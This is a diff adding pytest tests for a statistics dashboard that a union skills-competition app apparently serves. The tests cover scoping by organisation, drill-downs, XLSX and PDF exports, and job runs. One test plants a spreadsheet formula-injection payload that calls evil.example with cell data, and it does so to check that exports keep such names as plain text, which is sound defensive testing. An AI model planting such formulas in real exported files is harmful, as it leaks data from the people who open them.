@@ -1,0 +1,202 @@
+"""The statistics dashboard, its chart data, downloads and scoping, on the small known year (tests/stats_data.py)."""
+
+from __future__ import annotations
+
+import json
+import re
+import subprocess
+from io import BytesIO
+
+import pytest
+from openpyxl import load_workbook
+from sqlalchemy import select
+
+from competitions.extensions import db
+from competitions.scheduler import JobRun
+from competitions.stats.services import compile_year
+from tests import factories as f
+from tests import stats_data as known
+
+
+@pytest.fixture
+def year(app):
+    data = known.known_year()
+    f.user("cityorg", "organizer", org=data["city"].organization)
+    f.user("eastorg", "organizer", org=data["east"])
+    f.user("plantorg", "organizer", org=data["plant"])
+    f.user("admin", "admin")
+    f.user("worker", "competitor", org=data["plant"])
+    for y in (2025, 2026):
+        compile_year(y)
+    db.session.commit()
+    return data
+
+
+def _json(client, **params):
+    response = client.get("/api/v1/stats/figures", query_string=params)
+    assert response.status_code == 200, response.data
+    return response.get_json()
+
+
+def _headline(document) -> dict:
+    return {item["metric"]: item["value"] for item in document["headline"]}
+
+
+def _pairs(chart) -> dict:
+    return dict(zip(chart["categories"], chart["values"], strict=True))
+
+
+def _chart(document, name) -> dict:
+    return next(chart for chart in document["charts"] if chart["name"] == name)
+
+
+def test_city_dashboard_shows_the_hand_counted_figures_and_the_change_from_last_year(year, client, auth):
+    auth.login("cityorg")
+    page = client.get("/stats/?year=2026")
+    assert page.status_code == 200
+    html = page.get_data(as_text=True)
+    assert "测试市总工会" in html and 'data-chart="region"' in html
+    document = _json(client, year=2026)
+    assert _headline(document) == dict(zip(("competitions", "events", "participations", "workers", "enterprises",
+                                            "finalists", "awards", "promotions"), (*known.CITY_2026, None),
+                                           strict=True))
+    participations = next(i for i in document["headline"] if i["metric"] == "participations")
+    assert (participations["previous"], participations["change_percent"]) == (2, "+300.0")
+    region = _chart(document, "region")
+    assert _pairs(region) == {"东区总工会": 6, "西区总工会": 2}
+    assert region["links"][0].endswith(f"scope={year['east'].id}")
+    trade = _chart(document, "trade")
+    assert _pairs(trade) == {"电工": 5, "焊工": 2, "数控车工": 1}
+    assert "drill=trade%3AELEC" in trade["links"][0] or "drill=trade:ELEC" in trade["links"][0]
+    years = _chart(document, "years")
+    assert years["categories"] == ["2025", "2026"] and years["values"] == [2, 8]
+    # The page embeds the same document the JSON endpoint serves, for the static script to draw.
+    embedded = re.search(r'<script type="application/json" id="stats-data">(.*?)</script>', html, re.S).group(1)
+    assert json.loads(embedded)["headline"] == document["headline"]
+    assert "<script>" not in html  # no inline script (Content-Security-Policy)
+
+
+def test_district_union_sees_its_own_subtree_only(year, client, auth):
+    auth.login("eastorg")
+    document = _json(client, year=2026)
+    assert document["scope"]["name"] == "东区总工会"
+    assert tuple(_headline(document)[m] for m in ("competitions", "events", "participations", "workers",
+                                                  "enterprises", "finalists", "awards")) == known.EAST_2026
+    assert _chart(document, "region")["categories"] == ["东区机床厂工会"]
+    for scope in (year["west"].id, year["city"].organization_id, year["works"].id):
+        assert client.get("/api/v1/stats/figures", query_string={"scope": scope}).status_code == 404
+        assert client.get("/stats/", query_string={"scope": scope}).status_code == 404
+        assert client.get("/stats/report.xlsx", query_string={"scope": scope}).status_code == 404
+    assert client.get("/stats/", query_string={"scope": year["plant"].id}).status_code == 200
+    html = client.get("/stats/?year=2026").get_data(as_text=True)
+    assert "测试市总工会" not in html  # not even in the breadcrumb
+
+
+def test_enterprise_union_sees_itself(year, client, auth):
+    auth.login("plantorg")
+    document = _json(client, year=2026)
+    assert document["scope"]["name"] == "东区机床厂工会"
+    assert _headline(document)["participations"] == known.PLANT_2026[2]
+    assert "region" not in {chart["name"] for chart in document["charts"]}
+    assert client.get("/api/v1/stats/figures", query_string={"scope": year["east"].id}).status_code == 404
+
+
+def test_drill_down_by_trade_across_the_districts(year, client, auth):
+    auth.login("cityorg")
+    document = _json(client, year=2026, drill="trade:ELEC")
+    drill = document["drill"]
+    assert _pairs(drill) == {"东区总工会": 4, "西区总工会": 1}
+    page = client.get("/stats/?year=2026&drill=trade:ELEC").get_data(as_text=True)
+    assert 'id="drill"' in page and "电工" in page
+    # From a district, the same drill lists its enterprises.
+    document = _json(client, year=2026, scope=year["east"].id, drill="industry:通用设备制造业")
+    assert _pairs(document["drill"]) == {"东区机床厂工会": 6}
+    assert "drill" not in _json(client, year=2026, drill="gender:male")  # not a drill-down dimension
+
+
+def test_bad_parameters_fall_back_instead_of_failing(year, client, auth):
+    auth.login("cityorg")
+    for query in ("year=abc", "year=99999", "scope=abc", "drill=trade", "drill=nonsense:1"):
+        assert client.get(f"/stats/?{query}").status_code == 200, query
+    assert client.get("/stats/?scope=999999").status_code == 404
+
+
+def test_chart_data_as_xlsx(year, client, auth):
+    auth.login("cityorg")
+    response = client.get("/stats/chart.xlsx?year=2026&chart=trade")
+    assert response.status_code == 200
+    assert "statistics-2026-" in response.headers["Content-Disposition"]
+    sheet = load_workbook(BytesIO(response.data)).active
+    rows = list(sheet.iter_rows(values_only=True))
+    assert rows[0][0] == "按工种" and rows[2][1:4] == ("举办竞赛", "竞赛项目", "参赛人次")
+    by_label = {row[0]: row for row in rows[3:]}
+    assert by_label["电工"][1:4] == (2, 2, 5)
+    assert client.get("/stats/chart.xlsx?year=2026&chart=nothing").status_code == 404
+    drilled = load_workbook(BytesIO(client.get("/stats/chart.xlsx?year=2026&drill=trade:ELEC").data)).active
+    assert [row[0] for row in drilled.iter_rows(min_row=4, values_only=True)] == ["东区总工会", "西区总工会"]
+
+
+def test_names_that_look_like_formulas_stay_text(year, client, auth):
+    year["plant"].name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    db.session.commit()
+    auth.login("cityorg")
+    book = load_workbook(BytesIO(client.get("/stats/report.xlsx?year=2026").data))
+    sheet = next(ws for ws in book.worksheets if "nterprise" in ws.title or "企业" in ws.title)
+    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.data_type == "s" for c in cells)
+
+
+def test_annual_report_xlsx_has_a_sheet_per_breakdown(year, client, auth):
+    auth.login("cityorg")
+    response = client.get("/stats/report.xlsx?year=2026", headers={"Accept-Language": "en"})
+    book = load_workbook(BytesIO(response.data))
+    assert len(book.worksheets) == 1 + 10
+    summary = {row[0]: row[1:] for row in book.worksheets[0].iter_rows(min_row=4, values_only=True) if row[0]}
+    assert summary["Participations (person-times)"] == (8, 2, "+300.0%")
+    assert summary["Workers (persons)"][:2] == (5, 2)
+
+
+def _pdf_text(data: bytes, tmp_path) -> str:
+    path = tmp_path / "report.pdf"
+    path.write_bytes(data)
+    return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True,
+                          check=True).stdout
+
+
+@pytest.mark.parametrize("language, words", [
+    ("zh", ("劳动和技能竞赛年度统计", "参赛人次", "电工", "东区总工会")),
+    ("en", ("Annual statistics", "Participations (person-times)", "电工", "东区总工会")),
+])
+def test_annual_report_pdf_has_charts_and_tables(year, client, auth, tmp_path, language, words):
+    auth.login("cityorg")
+    client.post("/lang", data={"lang": language})
+    response = client.get("/stats/report.pdf?year=2026")
+    assert response.status_code == 200 and response.data.startswith(b"%PDF")
+    text = _pdf_text(response.data, tmp_path)
+    for word in words:
+        assert word in text, word
+    png = tmp_path / f"stats-report-{language}"
+    subprocess.run(["pdftoppm", "-png", "-r", "60", "-f", "1", "-l", "2", str(tmp_path / "report.pdf"), str(png)],
+                   check=True)
+    assert list(tmp_path.glob(f"stats-report-{language}*.png"))
+
+
+def test_admin_sees_job_runs_and_runs_one_now(year, client, auth):
+    auth.login("admin")
+    page = client.get("/stats/jobs").get_data(as_text=True)
+    for name in ("close_due_registrations", "finalize_due_results", "refresh_statistics", "compile_previous_year"):
+        assert name in page
+    response = client.post("/stats/jobs/refresh_statistics/run")
+    assert response.status_code == 302
+    run = db.session.execute(select(JobRun).where(JobRun.job == "refresh_statistics")).scalar_one()
+    assert (run.status, run.trigger) == ("succeeded", "manual") and run.requested_by_id is not None
+    page = client.get("/stats/jobs").get_data(as_text=True)
+    assert "run-succeeded" in page and run.period_key in page
+    assert client.post("/stats/jobs/no_such_job/run").status_code == 404
+
+
+def test_competitors_and_anonymous_are_kept_out(year, client, auth):
+    assert client.get("/api/v1/stats/figures").status_code == 401
+    auth.login("worker")
+    assert client.get("/stats/").status_code == 403
+    assert client.get("/api/v1/stats/figures").status_code == 403
